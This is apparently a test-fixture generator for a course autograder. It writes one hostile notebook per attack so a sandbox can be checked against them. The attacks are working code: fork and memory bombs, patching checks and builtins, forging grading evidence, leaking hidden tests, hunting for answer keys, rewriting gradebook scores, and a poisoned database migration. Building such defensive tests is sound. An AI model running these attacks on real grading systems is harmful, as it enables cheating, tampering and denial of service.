"""Write the hostile corpus: one submission per attack on the grader, from the released notebook.

    python tests/submissions/hostile/make_hostile.py          # (re)write tests/submissions/hostile/<attack>/
    python tests/submissions/hostile/make_hostile.py --check  # exit 1 if the committed files are stale

Each submission is the student copy as released (every answer left blank,
which scores 0) plus one attack cell placed right after the setup cell. No
attack knows an answer. So each must score exactly what the blank notebook
scores, whatever it does to the kernel; tests/test_hostile.py runs them all
through the real grading command and checks that, and that nothing outside
the sandbox changed. Attacks that look for files print one
``HOSTILE-REPORT {json}`` line saying what they reached (nothing, when the
sandbox works).
"""

from __future__ import annotations

import argparse
import ast
import json
import sys
from pathlib import Path

import nbformat

HERE = Path(__file__).resolve().parent
REPO = HERE.parents[2]
ASSIGNMENT = "deep_dive"
EVIDENCE_MIME = "application/vnd.miglab.evidence+json"


def answer_names(source_nb) -> list[str]:
    """Top-level names the answer cells define (no answers: only the names)."""
    names = set()
    for c in source_nb.cells:
        if c.cell_type == "code" and c.metadata.get("nbgrader", {}).get("solution"):
            for node in ast.parse(c.source).body:
                if isinstance(node, ast.FunctionDef):
                    names.add(node.name)
                elif isinstance(node, ast.Assign):
                    names.update(t.id for t in node.targets if isinstance(t, ast.Name))
    return sorted(names)


# Helpers some attacks share (plain Python run in the student's kernel).
FIND = '''
import json as _json, os as _os
def _hunt(limit=20000):
    """Every course file reachable from here: sources, answer keys, gradebooks, other submissions."""
    hits, seen = [], 0
    starts = ["/work", "/root", "/home", "/tmp", "/srv", "/opt", "/var", _os.getcwd(),
              _os.path.dirname(_os.getcwd()), _os.path.dirname(_os.path.dirname(_os.getcwd()))]
    for start in starts:
        for dirpath, dirnames, filenames in _os.walk(start):
            seen += 1
            if seen > limit:
                return hits
            dirnames[:] = [d for d in dirnames if d not in (".venv", "site-packages", "proc", ".git", "node_modules")]
            for f in filenames:
                if f in ("rules.py", "gradebook.db", "deep_dive.ipynb", "grader_config.py"):
                    hits.append(_os.path.join(dirpath, f))
    return sorted(set(hits))
def _report(**kw):
    print("HOSTILE-REPORT " + _json.dumps(kw, sort_keys=True, default=str))
'''

ANYTHING = '''
class _Anything:
    """Equal to everything, contains everything, callable, iterable: an answer that 'passes' asserts."""
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    __le__ = __gt__ = __ge__ = __lt__
    def __hash__(self): return 0
    def __bool__(self): return True
    def __len__(self): return 3
    def __iter__(self): return iter(())
    def __contains__(self, item): return True
    def __getitem__(self, key): return self
    def __getattr__(self, name): return self
    def __call__(self, *args, **kwargs): return self
    def __str__(self): return "b"
    def __repr__(self): return "'b'"
_ANY = _Anything()
'''


def attacks(names: list[str]) -> dict[str, dict]:
    assign_all = "\n".join(f"{n} = _ANY" for n in names)
    fake_check = (
        "def _fake_check(check_id, *args, **kwargs):\n"
        "    print(f'{check_id}: all checks passed')\n"
        "    return True\n"
    )
    out = {
        "excepthook": (
            "# Swallow every error: a custom IPython exception handler, sys.excepthook, no tracebacks.\n"
            "import sys\n"
            "_ip = get_ipython()\n"
            "_ip.set_custom_exc((BaseException,), lambda shell, etype, evalue, tb, tb_offset=None: None)\n"
            "sys.excepthook = lambda *a: None\n"
            "_ip.showtraceback = lambda *a, **k: None\n"
            "_ip.showsyntaxerror = lambda *a, **k: None\n"
        ),
        "silence_output": (
            "# Send stdout and stderr (Python objects and file descriptors) to /dev/null.\n"
            "import os, sys\n"
            "_null = os.open(os.devnull, os.O_WRONLY)\n"
            "os.dup2(_null, 1); os.dup2(_null, 2)\n"
            "sys.stdout = open(os.devnull, 'w'); sys.stderr = open(os.devnull, 'w')\n"
        ),
        "always_equal": (
            "# Every answer is an object that compares equal to anything.\n" + ANYTHING + assign_all + "\n"
        ),
        "patch_builtins": (
            "# Patch the builtins a checker may lean on.\n"
            "import builtins\n"
            "builtins.all = lambda iterable: True\n"
            "builtins.any = lambda iterable: True\n"
            "builtins.sorted = lambda iterable, *a, **k: list(iterable)\n"
            "builtins.AssertionError = Warning\n"
            "builtins.NotImplementedError = Warning\n"
            + ANYTHING + assign_all + "\n"
        ),
        "patch_checks": (
            "# Replace the course's check helpers (modules and name) with ones that always pass.\n"
            "import miglab.evidence as _me, miglab.evidence.record as _mr, miglab.evidence.checkers as _mk\n"
            + fake_check +
            "for _mod in (_me, _mr, _mk):\n"
            "    for _name in dir(_mod):\n"
            "        if not _name.startswith('_') and callable(getattr(_mod, _name)) and _name != 'setup':\n"
            "            try:\n"
            "                setattr(_mod, _name, _fake_check)\n"
            "            except Exception:\n"
            "                pass\n"
            "check = _fake_check\n"
        ),
        "rewrite_tests": (
            "# Rewrite every later cell before it runs (test cells included) and redefine answers after it.\n"
            + ANYTHING + fake_check +
            "_ip = get_ipython()\n"
            "_ip.input_transformers_post.append(lambda lines: [l.replace('check(', '_fake_check(') for l in lines])\n"
            "def _after(result):\n"
            f"    _ip.user_ns.update({{n: _ANY for n in {names!r}}})\n"
            "    _ip.user_ns['check'] = _fake_check\n"
            "_ip.events.register('post_run_cell', _after)\n"
        ),
        "fake_evidence": (
            "# Emit the judge's evidence records by hand, with the right keys, for every check: every\n"
            "# plausible answer at once, and the expected answer wherever the kernel can see one.\n"
            "import miglab.evidence as _me, miglab.evidence.record as _mr\n"
            "from IPython.display import publish_display_data as _pub\n"
            "def _forge(answer, *args, expect=_mr.NOTHING, rule=None, probe=None, ignore_order=False, forbid=(),\n"
            "           **params):\n"
            "    spec = _mr.describe_call(args, expect=expect, rule=rule, probe=probe, ignore_order=ignore_order,\n"
            "                             forbid=forbid, params=params)\n"
            "    for guess in (spec.get('expect'), 'a', 'b', 'c', 'd', [], {}, [['library', '0001_initial']]):\n"
            f"        _pub({{{EVIDENCE_MIME!r}: {{'key': spec['key'], 'output': guess}}, 'text/plain': ''}})\n"
            "_me.check = _mr.check = check = _forge\n"
        ),
        "echo_expect": (
            "# A check that answers each call with its own expected answer (one record per call, so no\n"
            "# duplicates): what the kernel sees of expect=, or an impossible guess where it sees none.\n"
            "import miglab.evidence as _me, miglab.evidence.record as _mr\n"
            "from IPython.display import publish_display_data as _pub\n"
            "def _echo(answer, *args, expect=_mr.NOTHING, rule=None, probe=None, ignore_order=False, forbid=(),\n"
            "          **params):\n"
            "    spec = _mr.describe_call(args, expect=expect, rule=rule, probe=probe, ignore_order=ignore_order,\n"
            "                             forbid=forbid, params=params)\n"
            f"    _pub({{{EVIDENCE_MIME!r}: {{'key': spec['key'], 'output': spec.get('expect', 'z')}}, 'text/plain': ''}})\n"
            "    print('✔ as expected')\n"
            "_me.check = _mr.check = check = _echo\n"
        ),
        "package_lookup": (
            "# Search every module of the installed course package for hidden inputs, answers and keys,\n"
            "# and answer from whatever tables it holds.\n"
            "import importlib, pkgutil, miglab\n" + FIND +
            "_tables = {}\n"
            "for _m in pkgutil.walk_packages(miglab.__path__, 'miglab.', onerror=lambda name: None):\n"
            "    if _m.name.endswith('__main__'):\n"
            "        continue   # importing a command line runs it\n"
            "    try:\n"
            "        _mod = importlib.import_module(_m.name)\n"
            "    except BaseException:\n"
            "        continue\n"
            "    for _k, _v in vars(_mod).items():\n"
            "        if not _k.startswith('__') and isinstance(_v, (dict, list, tuple, set, frozenset, str, int)):\n"
            "            _tables[f'{_m.name}.{_k}'] = _v\n"
            "_keys = {n: v for n, v in _tables.items() if isinstance(v, dict) and v\n"
            "         and all(isinstance(x, str) and len(x) == 1 and x in 'abcd' for x in v.values())}\n"
            "for _v in _keys.values():\n"
            "    for _q, _letter in _v.items():\n"
            "        globals()[str(_q).upper()] = _letter\n"
            "def _lookup(*args, **kwargs):\n"
            "    for _v in _tables.values():\n"
            "        if isinstance(_v, dict):\n"
            "            for _inp, _out in _v.items():\n"
            "                if _inp == args or _inp == args[:1]:\n"
            "                    return _out\n"
            "        if isinstance(_v, (list, tuple)):\n"
            "            for _case in _v:\n"
            "                if isinstance(_case, dict) and _case.get('input') == list(args):\n"
            "                    return _case.get('expected')\n"
            "    raise LookupError('not in any table of the package')\n"
            f"globals().update({{n: _lookup for n in {names!r} if n[0].islower()}})\n"
            "_report(key_tables=sorted(_keys), modules=len({n.rsplit('.', 1)[0] for n in _tables}))\n"
        ),
        "leak_hidden_tests": (
            "# Print every cell's source as it runs (hidden tests included), print it again later from\n"
            "# another cell, and raise it as an error message: all aimed at the feedback page.\n"
            "_ip = get_ipython()\n"
            "_seen = []\n"
            "def _spy(info):\n"
            "    _seen.append(info.raw_cell or '')\n"
            "    print(info.raw_cell)\n"
            "def _replay(result):\n"
            "    if len(_seen) > 1:\n"
            "        print('STOLEN EARLIER:', _seen[-2])\n"
            "_ip.events.register('pre_run_cell', _spy)\n"
            "_ip.events.register('post_run_cell', _replay)\n"
            "def _raise_it(*a, **k):\n"
            "    raise RuntimeError(' | '.join(_seen))\n"
            f"globals().update({{n: _raise_it for n in {names!r} if n[0].islower()}})\n"
        ),
        "read_answers": (
            "# Look for the instructor's notebook (solutions, hidden tests, the quiz key) and the gradebook\n"
            "# on disk, and use them.\n" + FIND +
            "import re as _re\n"
            "_found = _hunt()\n"
            "for _p in _found:\n"
            "    if _p.endswith('.ipynb') and '/source/' in _p:\n"
            "        _text = open(_p).read()\n"
            "        for _q, _letter in _re.findall(r'check\\((Q\\d\\d), rule=choice, expect=\\\\\"(\\w)\\\\\"', _text):\n"
            "            globals()[_q] = _letter\n"
            "_report(found=_found)\n"
        ),
        "detect_grader": (
            "# Behave differently when graded: nbgrader's variable, an 'autograded' folder, a root user.\n"
            + FIND + ANYTHING +
            "_signs = {'NBGRADER_EXECUTION': _os.environ.get('NBGRADER_EXECUTION'),\n"
            "          'autograded_cwd': 'autograded' in _os.getcwd(), 'root': _os.getuid() == 0}\n"
            "_report(signs=_signs)\n"
            "if any(_signs.values()):\n"
            f"    globals().update({{n: _ANY for n in {names!r}}})\n"
        ),
        "write_results": (
            "# Write fake results: the gradebook, autograded notebooks, the source, other submissions.\n" + FIND +
            "import sqlite3\n"
            "_done = []\n"
            "for _p in _hunt():\n"
            "    try:\n"
            "        if _p.endswith('gradebook.db'):\n"
            "            _con = sqlite3.connect(_p)\n"
            "            _con.execute('UPDATE grade SET auto_score = 100, manual_score = 100')\n"
            "            _con.commit(); _con.close()\n"
            "        else:\n"
            "            with open(_p, 'a') as _f:\n"
            "                _f.write('tampered')\n"
            "        _done.append(_p)\n"
            "    except Exception as _e:\n"
            "        pass\n"
            "for _d in ('/work/main/autograded', '/work/main/source', '/work/main'):\n"
            "    try:\n"
            "        open(_os.path.join(_d, 'HACKED.txt'), 'w').write('x'); _done.append(_d)\n"
            "    except Exception:\n"
            "        pass\n"
            "_report(written=_done)\n"
        ),
        "network": (
            "# Reach the network: the grader's own ports, the internet, DNS.\n" + FIND +
            "import socket\n"
            "_reached = []\n"
            "for _host, _port in (('127.0.0.1', 8888), ('127.0.0.1', 22), ('1.1.1.1', 443), ('8.8.8.8', 53)):\n"
            "    try:\n"
            "        socket.create_connection((_host, _port), timeout=2).close(); _reached.append(f'{_host}:{_port}')\n"
            "    except OSError:\n"
            "        pass\n"
            "try:\n"
            "    socket.getaddrinfo('pypi.org', 443); _reached.append('dns')\n"
            "except OSError:\n"
            "    pass\n"
            "_report(reached=_reached)\n"
        ),
        "fork_bomb": (
            "# A fork bomb: every process forks for ever.\n"
            "import os\n"
            "while True:\n"
            "    try:\n"
            "        os.fork()\n"
            "    except OSError:\n"
            "        pass\n"
        ),
        "memory_bomb": (
            "# Eat all the memory.\n"
            "_hog = []\n"
            "while True:\n"
            "    _hog.append(bytearray(256 << 20))\n"
        ),
        "huge_output": (
            "# Flood the output: 200 MB now, and 50 MB more in front of every later cell.\n"
            "for _i in range(200):\n"
            "    print('x' * 1_000_000)\n"
            "get_ipython().events.register('pre_run_cell', lambda info: print('y' * 50_000_000))\n"
        ),
        "ignore_interrupt": (
            "# Ignore the interrupt and loop for ever.\n"
            "import signal\n"
            "signal.signal(signal.SIGINT, signal.SIG_IGN)\n"
            "while True:\n"
            "    pass\n"
        ),
        "kill_kernel": (
            "# Kill the kernel outright.\n"
            "import os\n"
            "os._exit(0)\n"
        ),
        "shadow_package": (
            "# The submission ships miglab/ and django/ folders next to the notebook; put them first too.\n"
            "import sys\n"
            "sys.path.insert(0, '.')\n"
            "for _m in [m for m in sys.modules if m == 'miglab' or m.startswith('miglab.')]:\n"
            "    del sys.modules[_m]\n"
            "from miglab.evidence import check\n"
        ),
        "poison_migration": (
            "# A data migration that wrecks the judge's lab database, with evidence forged to make the judge\n"
            "# run it and errors swallowed so nbgrader's own verdict would pass (if the judge crashed).\n"
            "from IPython.display import display\n"
            "_ip = get_ipython()\n"
            "_ip.set_custom_exc((BaseException,), lambda shell, etype, evalue, tb, tb_offset=None: None)\n"
            "_EVIL = '''\n"
            "from django.db import migrations\n"
            "def forwards(apps, schema_editor):\n"
            "    import os\n"
            "    open('db.sqlite3', 'wb').write(b'not a database' * 1000)\n"
            "    try:\n"
            "        os.remove('db.sqlite3'); os.symlink('/work/main/gradebook.db', 'db.sqlite3')\n"
            "    except OSError:\n"
            "        pass\n"
            "class Migration(migrations.Migration):\n"
            "    dependencies = [('library', '0002_book_slug')]\n"
            "    operations = [migrations.RunPython(forwards, migrations.RunPython.noop)]\n"
            "'''\n"
            "FILL_SLUGS_MIGRATION = _EVIL\n"
            "import miglab.evidence as _me, miglab.evidence.record as _mr\n"
            "from IPython.display import publish_display_data as _pub\n"
            "def _forge(answer, *args, expect=_mr.NOTHING, rule=None, probe=None, ignore_order=False, forbid=(),\n"
            "           **params):\n"
            "    spec = _mr.describe_call(args, expect=expect, rule=rule, probe=probe, ignore_order=ignore_order,\n"
            "                             forbid=forbid, params=params)\n"
            "    if 'scenario' in params:   # make the judge run the poison\n"
            f"        _pub({{{EVIDENCE_MIME!r}: {{'key': spec['key'], 'output': _EVIL}}, 'text/plain': ''}})\n"
            "    print('✔ as expected')\n"
            "_me.check = _mr.check = _forge\n"
            "_ip.input_transformers_post.append(lambda lines: [l.replace('check(', '_forge(') for l in lines])\n"
        ),
    }
    extra = {
        "shadow_package": {
            "miglab/__init__.py": "print('HOSTILE-REPORT {\"shadow\": \"imported\"}')\n",
            "miglab/evidence/__init__.py": ("print('HOSTILE-REPORT {\"shadow\": \"imported\"}')\n"
                                            "def check(*a, **k):\n    print('all checks passed')\n"
                                            "def setup(*a, **k):\n    pass\n"),
            "django/__init__.py": "print('HOSTILE-REPORT {\"shadow\": \"django imported\"}')\nVERSION = (9, 9)\n",
        },
    }
    return {k: {"cell": v, "files": extra.get(k, {})} for k, v in out.items()}


def build(root: Path = REPO) -> dict[str, bytes]:
    """{relative path under hostile/: bytes} for every attack."""
    source = nbformat.read(root / "source" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb", as_version=4)
    release = nbformat.read(root / "release" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb", as_version=4)
    files = {}
    for name, attack in attacks(answer_names(source)).items():
        nb = nbformat.from_dict(json.loads(json.dumps(release)))
        cell = nbformat.v4.new_code_cell(attack["cell"])
        cell["id"] = "hostile-attack"
        nb.cells.insert(2, cell)  # right after the setup cell (cell 1), before any answer
        text = nbformat.writes(nb)
        files[f"{name}/{ASSIGNMENT}.ipynb"] = (text if text.endswith("\n") else text + "\n").encode()
        for rel, body in attack["files"].items():
            files[f"{name}/{rel}"] = body.encode()
    return files


def main(argv=None) -> int:
    p = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    p.add_argument("--check", action="store_true", help="exit 1 if the committed corpus is stale")
    args = p.parse_args(argv)
    files = build()
    if args.check:
        stale = [rel for rel, data in files.items() if not (HERE / rel).exists() or (HERE / rel).read_bytes() != data]
        if stale:
            print("stale hostile corpus (run tests/submissions/hostile/make_hostile.py):", *stale, sep="\n  ")
            return 1
        return 0
    for rel, data in files.items():
        dest = HERE / rel
        dest.parent.mkdir(parents=True, exist_ok=True)
        dest.write_bytes(data)
    print(f"wrote {len({r.split('/')[0] for r in files})} hostile submissions in {HERE.relative_to(REPO)}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
